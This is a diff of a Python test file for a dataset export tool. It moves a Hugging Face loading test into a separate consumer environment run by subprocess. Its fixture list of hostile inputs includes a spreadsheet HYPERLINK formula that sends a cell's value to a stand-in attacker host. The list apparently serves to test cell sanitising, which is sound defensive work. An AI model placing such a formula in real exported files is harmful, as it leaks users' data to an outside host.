@@ -6,6 +6,7 @@ import csv
 import gzip
 import hashlib
 import json
+import os
 import subprocess
 import sys
 from dataclasses import replace
@@ -20,6 +21,9 @@ from warehouse.connect import writing
 from warehouse.errors import InTheWay, NothingPublished
 from warehouse.export import MARK, Selection, export
 from warehouse.spreadsheet import BIDI, FORMULA, safe_cell
+
+# What consumers use, in an environment of its own: made by `make test`
+CONSUMERS = Path(sys.prefix) / "consumers" / "bin"
 
 NAUGHTY = (
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -109,7 +113,7 @@ def test_parquet_is_filed_by_outlet_and_month_and_read_back_as_one_table(publish
 
 
 def test_the_parquet_folder_is_laid_out_as_hugging_face_reads_it(published: Path, tmp_path: Path) -> None:
-    """`datasets.load_dataset(folder)` takes the patterns of the card's `configs`; read by hand here, by the library below, where it is."""
+    """`datasets.load_dataset(folder)` takes the patterns of the card's `configs`: read by hand here, by the library below."""
     export(published, tmp_path / "corpus", "parquet")
     card = (tmp_path / "corpus" / "README.md").read_text(encoding="utf-8")
     _, front, body = card.split("---\n", 2)
@@ -119,10 +123,11 @@ def test_the_parquet_folder_is_laid_out_as_hugging_face_reads_it(published: Path
 
 
 def test_hugging_face_loads_the_parquet_folder(published: Path, tmp_path: Path) -> None:
-    datasets = pytest.importorskip("datasets", reason="70 packages, among them pandas and pyarrow, for one assertion")
     export(published, tmp_path / "corpus", "parquet")
-    loaded = datasets.load_dataset(str(tmp_path / "corpus"), split="train", cache_dir=str(tmp_path / "cache"))
-    assert loaded.num_rows == len(NAUGHTY) + 3
+    code = "import datasets; print(datasets.load_dataset('corpus', split='train', cache_dir='cache').num_rows)"
+    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_HOME": str(tmp_path / "home")}
+    done = subprocess.run([CONSUMERS / "python", "-c", code], capture_output=True, text=True, check=False, cwd=tmp_path, env=env)
+    assert done.stdout.split() == [str(len(NAUGHTY) + 3)], done.stderr
 
 
 @pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
